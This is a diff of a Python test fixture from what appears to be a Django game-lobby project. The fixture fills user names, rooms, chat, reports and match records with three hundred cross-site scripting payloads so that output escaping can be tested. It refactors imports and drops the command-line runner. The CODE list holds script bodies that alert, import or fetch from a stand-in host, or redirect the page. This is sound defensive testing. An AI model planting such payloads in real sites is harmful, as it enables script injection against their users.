@@ -1,11 +1,22 @@
-"""Three hundred script payloads; `python -m tests.social.hostile` puts them into every free text of the environment's
-database, past all checks of length and letters, and prints where to look."""
+"""Three hundred script payloads. Called in a server's database, they are put into every free text, past all checks of
+length and letters."""
 
 import itertools
-import json
 from typing import Any
 
-import django
+from allauth.usersessions.models import UserSession
+from django.contrib.admin.models import LogEntry
+from django.contrib.contenttypes.models import ContentType
+from django.contrib.sessions.models import Session
+from django.utils import timezone
+
+from accounts.models import Block, Friendship, ModerationAction, PersonNote, Sanction, User
+from lobby.history.models import Judgement, Rating
+from lobby.models import ChatMessage, House, Invitation, Match, MatchPlayer, Room, Seat
+from lobby.moderation.models import Report, ReportNote
+from lobby.tables.services import rooms
+from lobby.tables.services.hosting import rename_by_moderator
+from tests.support.scenes.staff import moderator, with_factor
 
 CODE = ["alert(1)", "top.ran()", "import('//x.example')", "fetch('//x.example')", "top.location='//x.example'"]
 SHAPES = [
@@ -37,38 +48,27 @@ CATEGORIES = ("abuse", "name", "collusion", "stalling", "spam", "other")  # fift
 
 
 def main() -> dict[str, Any]:
-    """Vera looks, Hugo hosts, Dora moderates, Boss administrates."""
-    from accounts.models import User
-    from tests.social.desk import moderator, with_factor
-
+    """Vera looks, Hugo hosts, Dora moderates, Boss administrates. What a test needs to find them: slug and keys."""
     dora = moderator("dora")
     vera, hugo = (User.objects.create_user(name) for name in ("vera", "hugo"))
     boss = with_factor(User.objects.create_superuser("boss"))
-    crowd = _crowd(User)
+    crowd = _crowd()
     _people(crowd, vera, dora, boss)
     room = _rooms(crowd, vera, hugo, dora)
     report = _reports(crowd, room, dora)
     return {"slug": room.slug, "room": room.pk, "report": report, "person": crowd[0].pk, "match": _match(crowd, room)}
 
 
-def _crowd(model: Any) -> list[Any]:
+def _crowd() -> list[User]:
     """Everybody is called a payload; "p3-" finds fifty of them."""
     names = {"first_name", "last_name", "display_name"}
-    model.objects.bulk_create(
-        model(username=f"p{n // 50}-{n}", **dict.fromkeys(names, text)) for n, text in enumerate(PAYLOADS)
+    User.objects.bulk_create(
+        User(username=f"p{n // 50}-{n}", **dict.fromkeys(names, text)) for n, text in enumerate(PAYLOADS)
     )
-    return list(model.objects.filter(username__startswith="p", name_key=None).order_by("pk"))
+    return list(User.objects.filter(username__startswith="p", name_key=None).order_by("pk"))
 
 
-def _people(crowd: list[Any], vera: Any, dora: Any, boss: Any) -> None:
-    from allauth.usersessions.models import UserSession
-    from django.contrib.admin.models import LogEntry
-    from django.contrib.contenttypes.models import ContentType
-    from django.contrib.sessions.models import Session
-    from django.utils import timezone
-
-    from accounts.models import Block, Friendship, PersonNote, Sanction
-
+def _people(crowd: list[User], vera: User, dora: User, boss: User) -> None:
     now = timezone.now()
     friends = [(vera, other, now) for other in crowd[:100]] + [(other, vera, None) for other in crowd[100:200]]
     Friendship.objects.bulk_create(Friendship(asker=a, other=b, accepted_at=at) for a, b, at in friends)
@@ -91,12 +91,7 @@ def _people(crowd: list[Any], vera: Any, dora: Any, boss: Any) -> None:
     )  # fmt: skip
 
 
-def _rooms(crowd: list[Any], vera: Any, hugo: Any, dora: Any) -> Any:
-    from accounts.models import ModerationAction
-    from lobby.models import ChatMessage, House, Invitation, Room, Seat
-    from lobby.tables.services import rooms
-    from lobby.tables.services.hosting import rename_by_moderator
-
+def _rooms(crowd: list[User], vera: User, hugo: User, dora: User) -> Room:
     House.objects.create(pk=1, banner=ALL)
     Room.objects.bulk_create(
         Room(name=f"{text} #{n // 50}", ruleset="pife", options={"seats": 4}, host=crowd[n])
@@ -119,10 +114,7 @@ def _rooms(crowd: list[Any], vera: Any, hugo: Any, dora: Any) -> Any:
     return room
 
 
-def _reports(crowd: list[Any], room: Any, dora: Any) -> int:
-    from lobby.models import Room
-    from lobby.moderation.models import Report, ReportNote
-
+def _reports(crowd: list[User], room: Room, dora: User) -> int:
     others = list(Room.objects.order_by("pk"))
     now = "2026-01-01T00:00:00+00:00"
     lines = [
@@ -140,10 +132,7 @@ def _reports(crowd: list[Any], room: Any, dora: Any) -> int:
     return report.pk
 
 
-def _match(crowd: list[Any], room: Any) -> int:
-    from lobby.history.models import Judgement, Rating
-    from lobby.models import Match, MatchPlayer
-
+def _match(crowd: list[User], room: Room) -> int:
     match = Match.objects.create(room=room, number=1, ruleset="pife", reason="target", ended_at=room.created_at)
     MatchPlayer.objects.bulk_create(
         MatchPlayer(match=match, seat=n % 8, user=crowd[n], name=text) for n, text in enumerate(PAYLOADS)
@@ -153,8 +142,3 @@ def _match(crowd: list[Any], room: Any) -> int:
         Rating(user=person, ruleset="pife", size="2", mu=25 + n, sigma=1) for n, person in enumerate(crowd)
     )
     return match.pk
-
-
-if __name__ == "__main__":
-    django.setup()
-    print(json.dumps(main()))
